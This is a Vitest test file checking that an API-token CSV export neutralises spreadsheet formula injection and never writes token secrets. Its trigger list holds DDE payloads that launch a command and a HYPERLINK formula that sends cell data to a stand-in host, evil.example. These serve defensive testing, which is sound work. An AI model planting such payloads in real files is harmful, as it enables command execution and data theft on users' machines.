import { describe, expect, it } from 'vitest';
import { mockBackend, TEST_API_BASE_URL } from '../../../mocks/node';
import { createApiClient } from '../../../src/lib/api-client';
import { fetchTokensForExport } from '../../../src/features/api-tokens/api/export-csv';
import { buildTokensCsv } from '../../../src/features/api-tokens/model/tokens-csv';
import type { ApiToken } from '../../../src/features/api-tokens/api/types';
import { parseCsv } from '../grid/grid-helpers';
import { HOSTILE_STRINGS } from './hostile-strings';

// A CSV opened in a spreadsheet must not run anything a token's name (or any other text) smuggles in,
// and the export never carries a secret.

/** What a spreadsheet would take as the start of a formula (or a DDE call). */
const FORMULA_START = /^[=+\-@\t\r]/;

function token(overrides: Partial<ApiToken>): ApiToken {
  return {
    id: 'TKN-1111-2222',
    name: 'Plain',
    status: 'Active',
    lastAccessAt: null,
    modules: [{ id: 'MOD-1756', name: 'Access Management' }],
    audit: { created: { at: '2026-01-02T03:04:05.000Z', by: { id: 'USR-1', name: 'Alex Morgan' } } },
    ...overrides,
  };
}

const TRIGGERS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
];

describe('CSV export against hostile data', () => {
  it('no cell of any column starts a formula, whatever the name, creator or module is called', () => {
    const tokens = TRIGGERS.map((text, i) =>
      token({
        id: `TKN-0000-000${i}`,
        name: text,
        modules: [{ id: 'MOD-1', name: text }],
        audit: { created: { at: '2026-01-02T03:04:05.000Z', by: { id: 'USR-1', name: text } } },
      }),
    );
    const rows = parseCsv(buildTokensCsv(tokens));
    expect(rows).toHaveLength(tokens.length + 1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    // Neutralised by a leading apostrophe, otherwise unchanged: what was typed can still be read.
    TRIGGERS.forEach((text, i) => {
      const row = rows[i + 1] as string[];
      expect(row[0]).toBe(`'${text}`);
      expect(row[3]).toBe(`'${text}`);
      expect(row[2]).toBe(`'${text} (MOD-1)`);
    });
  });

  it('keeps every hostile name exactly, quoting what needs quoting', () => {
    const tokens = HOSTILE_STRINGS.map(({ text }, i) =>
      token({ id: `TKN-0000-${String(i).padStart(4, '0')}`, name: text }),
    );
    const rows = parseCsv(buildTokensCsv(tokens));
    HOSTILE_STRINGS.forEach(({ text }, i) => {
      const cell = rows[i + 1]?.[0];
      expect(cell).toBe(FORMULA_START.test(text) ? `'${text}` : text);
    });
  });

  it('leaves ordinary text alone', () => {
    const [, row] = parseCsv(buildTokensCsv([token({ name: 'Robot = helper, v2 - "prod" @home' })]));
    expect(row?.[0]).toBe('Robot = helper, v2 - "prod" @home');
  });

  it('never writes a secret, even when the data carries one', async () => {
    mockBackend.reset({ dataset: 'empty' });
    const { token: created, secret } = mockBackend.db.createToken({
      name: '=HYPERLINK("x")',
      description: null,
      icon: null,
      moduleIds: ['MOD-1756'],
    });
    const client = createApiClient({
      baseUrl: TEST_API_BASE_URL,
      getAccessToken: () => 'idt:TKN-0000-0001:test',
    });
    const fetched = await fetchTokensForExport(client, { filters: [], order: [] });
    const text = buildTokensCsv([...fetched, { ...fetched[0], token: secret }]);
    expect(text).toContain(created.id);
    expect(text).toContain(`'=HYPERLINK(""x"")`);
    expect(text).not.toContain(secret);
    expect(text).not.toContain(secret.split(':')[2] ?? secret);
  });
});
